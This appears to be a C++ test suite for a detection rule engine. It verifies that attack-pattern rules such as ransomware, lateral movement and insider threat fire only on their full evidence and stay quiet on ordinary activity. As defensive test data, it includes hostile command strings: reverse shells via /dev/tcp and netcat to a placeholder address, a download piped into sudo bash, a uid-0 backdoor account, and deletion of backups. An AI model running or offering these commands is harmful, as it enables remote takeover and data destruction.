// The rules that the executable carries: all are usable, and the seven attack patterns fire on
// their evidence and only on all of it.
#include <algorithm>
#include <set>

#include "core/base/test/result_text.h"
#include "modules/intelligence/rules/detector.h"
#include "modules/intelligence/rules/rule_files.h"
#include "modules/intelligence/rules/test/made_events.h"
#include "modules/intelligence/rules/test/rule_cases.h"

using namespace amoskys;
using namespace amoskys::rules;

namespace {

constexpr double night = 2 * 3600;  // 02:00 UTC
constexpr double noon = 12 * 3600;

std::unique_ptr<Engine> carried_rules() {
    auto engine = Engine::build(embedded_rules(), embedded_mapping().value());
    REQUIRE(engine);
    return std::move(*engine);
}

std::vector<module::Alert> alerts_of(Engine& engine, std::vector<MadeEvent> events) {
    Detector detector(engine);
    std::vector<module::Alert> out;
    std::uint64_t offset = 0;
    for (MadeEvent& event : events) {
        event.offset = ++offset;
        detector.observe(event.view(), 1,
                         [&](module::Alert alert, Duration) { out.push_back(std::move(alert)); });
    }
    return out;
}

std::vector<module::Alert> of_pattern(const std::vector<module::Alert>& alerts,
                                      std::string_view pattern) {
    std::vector<module::Alert> out;
    for (const module::Alert& alert : alerts)
        if (alert.pattern == pattern)
            out.push_back(alert);
    return out;
}

// The alert that all of the events give; none where one of them is missing.
module::Alert needs_all(std::string_view pattern, const std::vector<MadeEvent>& events,
                        const std::vector<std::size_t>& needed) {
    const auto engine = carried_rules();
    const auto found = of_pattern(alerts_of(*engine, events), pattern);
    REQUIRE(found.size() == 1);
    for (const std::size_t index : needed) {
        std::vector<MadeEvent> fewer = events;
        fewer.erase(fewer.begin() + static_cast<std::ptrdiff_t>(index));
        INFO("without event " << index);
        CHECK(of_pattern(alerts_of(*engine, fewer), pattern).empty());
    }
    CHECK_FALSE(found[0].techniques.empty());
    CHECK_FALSE(found[0].responses.empty());
    CHECK(found[0].score >= 0.8);
    return found[0];
}

}  // namespace

TEST_CASE(
    "all rules that are carried are usable, have a technique, and are at least 25 on events") {
    const auto engine = carried_rules();
    std::size_t on_events = 0;
    std::set<std::string> ids, patterns, classes;
    for (std::size_t i = 0; i < engine->rules().size(); ++i) {
        const Rule& rule = engine->rules()[i].rule;
        INFO(rule.file << " " << engine->placement(i).reason);
        CHECK(engine->placement(i).state == Placement::State::ready);
        CHECK(rule.author == "amoskys");
        CHECK(ids.insert(rule.id).second);
        if (rule.handling.building_block)
            continue;
        CHECK_FALSE(rule.techniques().empty());
        if (!rule.correlation) {
            ++on_events;
            for (const std::string& kind : engine->placement(i).classes)
                classes.insert(kind);
        }
        if (rule.correlation && !rule.handling.pattern.empty())
            patterns.insert(rule.handling.pattern);
    }
    CHECK(on_events >= 25);
    CHECK(classes == std::set<std::string>{"dns", "flow", "log", "process", "security"});
    CHECK(patterns == std::set<std::string>{"data_exfiltration", "industrial_sabotage",
                                            "insider_threat", "iot_botnet", "lateral_movement",
                                            "medical_device_attack", "ransomware"});
}

TEST_CASE("lateral_movement: from host to host, seen by two devices") {
    std::vector<MadeEvent> events = {made_flow("host-b", 10, "10.0.0.1", "10.0.0.2", 22),
                                     made_flow("host-c", 60, "10.0.0.2", "10.0.0.3", 445)};
    const auto alert = needs_all("lateral_movement", events, {0, 1});
    CHECK(alert.devices == std::vector<std::string>{"host-b", "host-c"});
    CHECK(alert.evidence == std::vector<std::uint64_t>{1, 2});
    CHECK(alert.techniques == std::vector<std::string>{"T1021", "T1078"});
    const auto engine = carried_rules();
    const auto fires = [&](const std::vector<MadeEvent>& changed) {
        return !of_pattern(alerts_of(*engine, changed), "lateral_movement").empty();
    };
    auto late = events;
    late[1].time_ns += 300'000'000'000ULL;
    CHECK_FALSE(fires(late));
    auto one_device = events;
    one_device[1].device = "host-b";
    CHECK_FALSE(fires(one_device));
    auto backwards = events;
    std::swap(backwards[0].time_ns, backwards[1].time_ns);
    CHECK_FALSE(fires(backwards));
    auto outside = events;
    outside[1].flow->set_dst_ip("192.0.2.9");
    CHECK_FALSE(fires(outside));
}

TEST_CASE("iot_botnet: a small device, a control port, a flood") {
    std::vector<MadeEvent> events = {made_flow("gw", 1, "10.0.0.9", "10.0.0.1", 1883),
                                     made_flow("gw", 5, "10.0.0.9", "192.0.2.1", 6667)};
    for (int i = 0; i < 100; ++i)
        events.push_back(
            made_flow("gw", 10 + i, "10.0.0.9", "192.0.2." + std::to_string(i), 2222, "S0", 0));
    const auto alert = needs_all("iot_botnet", events, {0, 1, 50});
    CHECK(alert.level == "critical");
    CHECK(alert.values ==
          std::vector<std::pair<std::string, std::string>>{{"SourceIp", "10.0.0.9"}});
}

TEST_CASE("medical_device_attack: HL7, a refusal, a session of administration") {
    needs_all("medical_device_attack",
              {made_flow("net", 1, "10.0.0.5", "10.0.0.7", 2575),
               made_flow("net", 20, "10.0.0.66", "10.0.0.7", 3389, "REJ", 0),
               made_flow("net", 40, "10.0.0.66", "10.0.0.7", 22)},
              {0, 1, 2});
}

TEST_CASE("industrial_sabotage: a failed probe, then a session at night") {
    std::vector<MadeEvent> events = {
        made_flow("net", night, "10.0.0.66", "10.1.0.7", 502, "REJ", 0),
        made_flow("net", night + 60, "10.0.0.66", "10.1.0.8", 44818)};
    needs_all("industrial_sabotage", events, {0, 1});
    for (MadeEvent& event : events)
        event.time_ns += static_cast<UnixNanos>((noon - night) * 1e9);
    const auto engine = carried_rules();
    CHECK(of_pattern(alerts_of(*engine, events), "industrial_sabotage").empty());
}

TEST_CASE("data_exfiltration: files are packed, and more than 100 MiB leave encrypted") {
    std::vector<MadeEvent> events = {
        made_process("db", noon, "/usr/bin/tar", "tar czf /tmp/a.tgz /srv"),
        made_flow("db", noon + 100, "10.0.0.4", "192.0.2.200", 443, "SF", 104'857'601)};
    needs_all("data_exfiltration", events, {0, 1});
    const auto engine = carried_rules();
    events[1].flow->set_bytes_sent(104'857'600);
    CHECK(of_pattern(alerts_of(*engine, events), "data_exfiltration").empty());
}

TEST_CASE("insider_threat: root at night, sensitive files, carried away, by one person") {
    std::vector<MadeEvent> events = {
        made_process("fs", night, "/usr/bin/sudo", "sudo -i", "eve"),
        made_process("fs", night + 60, "/usr/bin/cat", "cat /srv/payroll.csv", "eve"),
        made_process("fs", night + 120, "/usr/bin/scp", "scp x h:", "eve")};
    needs_all("insider_threat", events, {0, 1, 2});
    const auto engine = carried_rules();
    events[2].process->set_login_user("bob");
    CHECK(of_pattern(alerts_of(*engine, events), "insider_threat").empty());
}

TEST_CASE("ransomware: very many files encrypted, and the backups removed") {
    std::vector<MadeEvent> events;
    for (int i = 0; i < 20; ++i)
        events.push_back(made_process("fs", noon + i, "/usr/bin/openssl",
                                      "openssl enc -aes-256-cbc -in f" + std::to_string(i)));
    events.push_back(made_process("fs", noon + 60, "/bin/rm", "rm -rf /srv/backup"));
    const auto alert = needs_all("ransomware", events, {3, 20});
    CHECK(alert.techniques == std::vector<std::string>{"T1486", "T1490"});
}

TEST_CASE("ordinary work gives no alert") {
    const auto engine = carried_rules();
    const auto alerts = alerts_of(
        *engine, {made_process("a", noon, "/usr/bin/bash", "bash"),
                  made_process("a", noon, "/usr/bin/git", "git commit -m x"),
                  made_process("a", noon, "/usr/bin/python3.11", "python3 manage.py runserver"),
                  made_process("a", noon, "/usr/bin/curl", "curl -fsS https://example.org/"),
                  made_process("a", noon, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D"),
                  made_process("a", noon, "/usr/bin/find", "find . -name x.cc"),
                  made_flow("a", noon, "10.0.0.4", "192.0.2.7", 443),
                  made_flow("a", noon, "10.0.0.4", "10.0.0.1", 22),
                  made_log("a", noon, "sshd", "Accepted publickey for deploy from 10.0.0.1"),
                  made_log("a", noon, "kernel", "usb 1-1: new device")});
    for (const auto& alert : alerts)
        UNSCOPED_INFO(alert.title);
    CHECK(alerts.empty());
}

TEST_CASE("each kind of rule finds what it is for") {
    const auto engine = carried_rules();
    const auto titles = [&](const MadeEvent& event) {
        std::set<std::string> out;
        for (const auto& alert : alerts_of(*engine, {event}))
            out.insert(alert.title);
        return out;
    };
    const auto has = [&](const MadeEvent& event, const char* title) {
        const auto found = titles(event);
        INFO(title);
        CHECK(found.contains(title));
    };
    has(made_process("a", 1, "/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"),
        "Shell with its input or output on a network address");
    has(made_process("a", 1, "/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 443"),
        "Netcat or socat hands a shell to the network");
    has(made_process("a", 1, "/bin/sh", "sh -c curl -s http://192.0.2.1/x | sudo bash"),
        "Download piped into a shell");
    has(made_process("a", 1, "/tmp/.x/run (deleted)", "run"),
        "Program runs from a folder that anybody can write to");
    has(made_process("a", 1, "/bin/sh", "sh -c echo L2Jpbi9iYXNoIC1p"),
        "Base64 of a shell path on a command line");
    has(made_process("a", 1, "/usr/bin/find", "find / -perm -4000 -type f"),
        "Search for setuid files");
    has(made_process("a", 1, "/usr/sbin/useradd", "useradd -o -u 0 eve"),
        "Account with user id 0, or a password for root, set from a command line");
    has(made_flow("a", 1, "10.0.0.1", "192.0.2.1", 31337),
        "Connection out to a port of IRC and well-known back doors");
    has(made_flow("a", 1, "10.0.0.1", "10.0.0.2", 23), "Login over a protocol without encryption");
    has(made_log("a", 1, "sudo", "eve : user NOT in sudoers ; TTY=pts/0"), "Sudo refused");
    has(made_log("a", 1, "kernel", "nginx[4711]: segfault at 0 ip 0"), "Network server crashed");
    MadeEvent dns = made_flow("a", 1, "10.0.0.1", "10.0.0.53", 53);
    dns.flow->add_dns_names("eu.nanopool.org");
    has(dns, "Name of a mining pool asked for");
    MadeEvent security;
    security.device = "a";
    security.severity = "CRITICAL";
    security.event = std::make_shared<messaging::TelemetryEvent>();
    security.event->mutable_security_event()->set_event_action("exe_in_memory");
    has(security, "Serious observation of a process");
    // A log line of another program is not of the service.
    CHECK(titles(made_log("a", 1, "cron", "eve : user NOT in sudoers")).empty());
}

TEST_CASE("counts over logs and flows: brute force, guessed, scanned") {
    const auto engine = carried_rules();
    std::vector<MadeEvent> events;
    for (int i = 0; i < 20; ++i)
        events.push_back(made_log("a", i, "sshd", "Failed password for root from 192.0.2.1"));
    events.push_back(made_log("a", 30, "sshd", "Accepted password for root from 192.0.2.1"));
    for (std::uint32_t port = 1; port <= 50; ++port)
        events.push_back(made_flow("a", 40, "10.0.0.1", "10.0.0.2", port, "REJ", 0));
    std::multiset<std::string> titles;
    for (const auto& alert : alerts_of(*engine, events))
        titles.insert(alert.title);
    CHECK(titles == std::multiset<std::string>{"Many SSH logins refused", "Port scan",
                                               "Root logged in over SSH with a password",
                                               "SSH login accepted after many were refused"});
}
